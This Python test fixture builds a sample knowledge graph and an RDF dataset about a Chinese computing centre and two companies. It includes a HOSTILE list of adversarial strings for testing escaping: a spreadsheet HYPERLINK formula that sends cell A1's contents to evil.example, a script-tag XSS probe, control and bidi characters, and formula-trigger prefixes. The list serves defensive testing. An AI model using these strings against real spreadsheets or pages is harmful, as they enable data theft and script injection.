"""A small graph, the same as RDF, and strings that mean harm."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

from rdflib import PROV, RDF, RDFS, SKOS, XSD, Dataset, Literal, Namespace, URIRef

from kg.model import (
    Bound,
    Document,
    Entity,
    Evidence,
    Fact,
    KnowledgeGraph,
    Period,
    Precision,
    Quantity,
    Status,
)

KGO = Namespace("https://kg.example/ontology#")
KGE = Namespace("https://kg.example/entity/")
KGD = Namespace("https://kg.example/document/")
OA = Namespace("http://www.w3.org/ns/oa#")

HOSTILE = (
    '=HYPERLINK("https://evil.example/?x="&A1,"点我")',
    "<script>alert(1)</script>&amp;]]>",
    "行一\r\n行二\r行三\n",
    "控\x00制\x0b字\x1b[31m\x7f\ufffe",
    "单独的代理\ud800",
    "引\"号',逗号;分号\t制表",
    "-1,2",
    "@某某",
    "反\\斜杠\\u0027",
    "\u2028行分隔\u202e反向",
    "",
    " 空白 ",
)

CENTRE = Entity("ComputingCentre/某某市人工智能计算中心", "ComputingCentre", "某某市人工智能计算中心", ("计算中心",))
COMPANY = Entity("Company/甲公司", "Company", "甲公司", ("甲", "甲科技"))
OTHER = Entity("Company/乙公司", "Company", "乙公司")


def evidence(document: str, quote: str, rule: str = "operated-by") -> Evidence:
    return Evidence(document, 3, 3 + len(quote), quote, rule)


def fact(subject: Entity, predicate: str, value: object, status: Status = Status.ASSERTED, **more: object) -> Fact:
    more.setdefault("evidences", (evidence("甲篇", f"{predicate}的原文"),))
    return Fact(subject, predicate, value, status, **more)  # type: ignore[arg-type]


SAMPLE = KnowledgeGraph(
    documents=(Document("甲篇", "题", "题\n文"),),
    entities=(COMPANY, OTHER, CENTRE),
    facts=(
        fact(
            CENTRE,
            "operatedBy",
            COMPANY,
            evidences=(evidence("甲篇", "由甲公司运营"), evidence("乙篇", "甲公司负责运营")),
            confidence=0.9,
        ),
        fact(CENTRE, "operatedBy", OTHER),
        fact(CENTRE, "operatedBy", OTHER, Status.PLANNED),
        fact(
            COMPANY,
            "investsIn",
            OTHER,
            Status.CLAIMED,
            qualifiers=(("amount", Quantity(Decimal("3E8"), "CNY", Bound.ABOUT)), ("round", "A轮")),
            speaker=OTHER,
            time=Period(date(2026, 5, 1), date(2026, 5, 31), Precision.MONTH),
        ),
        fact(CENTRE, "computeCapacity", Quantity(Decimal("1E17"), "FLOPS")),
        fact(
            CENTRE,
            "completionDate",
            Period(date(2026, 6, 1), date(2026, 6, 30), Precision.MONTH),
            Status.EXPECTED,
        ),
        fact(COMPANY, "alias", "甲"),
        fact(COMPANY, "alias", "甲科技"),
        fact(COMPANY, "rank", 3),
    ),
)


def hostile_graph() -> KnowledgeGraph:
    entities = tuple(Entity(f"Concept/{n:02}{text}", "Concept", text, (text,)) for n, text in enumerate(HOSTILE))
    facts = [fact(COMPANY, "supports", entity, evidences=(evidence("甲篇", entity.name),)) for entity in entities]
    texts = [fact(entity, "alias", entity.name) for entity in entities]
    return KnowledgeGraph(entities=(COMPANY, *entities), facts=(*facts, *texts))


def sample_dataset(*, backwards: bool = False, hostile: bool = False) -> Dataset:
    """Quads without blank nodes, added in one order or in the other."""
    dataset = Dataset()
    for prefix, namespace in (("kgo", KGO), ("kge", KGE), ("kgd", KGD)):
        dataset.bind(prefix, namespace)
    centre, company = KGE["某某市人工智能计算中心"], KGE["甲公司"]
    quads = [
        (centre, RDF.type, KGO.ComputingCentre, "甲篇"),
        (centre, RDF.type, KGO.Facility, "甲篇"),
        (centre, RDFS.label, Literal("某某市人工智能计算中心", lang="zh"), "甲篇"),
        (centre, SKOS.altLabel, Literal("计算中心", lang="zh"), "乙篇"),
        (centre, SKOS.altLabel, Literal("", lang="zh"), "乙篇"),
        (centre, KGO.operatedBy, company, "甲篇"),
        (centre, KGO.operatedBy, company, "乙篇"),
        (centre, KGO.completionDate, Literal("2026-06", datatype=XSD.gYearMonth), "甲篇"),
        (KGE.q, KGO.value, Literal(Decimal(390000000)), "甲篇"),
        (KGE.q, KGO.confidence, Literal(Decimal("0.90")), "甲篇"),
        (KGE.q, KGO.wholly, Literal(True), "甲篇"),
        (KGE.q, OA.start, Literal(3), "甲篇"),
        (KGE.q, OA.exact, Literal('带\n换行和"引号"与\\u0041的\'\'\'原文"""'), "甲篇"),
        (KGE.q, URIRef("https://other.example/z#p"), URIRef("kge://authority/x"), "甲篇"),
        (KGE.q, URIRef("https://other.example/a#p"), URIRef("https://kg.example/entity///x"), "乙篇"),
        (KGD["甲篇"], PROV.wasDerivedFrom, URIRef("https://news.example/?a=1&b=<2>".replace("<2>", "2")), None),
    ]
    if hostile:
        quads += [(KGE.q, KGO.text, Literal(text), "甲篇") for text in HOSTILE if "\ud800" not in text]
    for subject, predicate, value, name in reversed(quads) if backwards else quads:
        graph = dataset.graph(KGD[name]) if name else dataset.default_graph
        graph.add((subject, predicate, value))
    return dataset
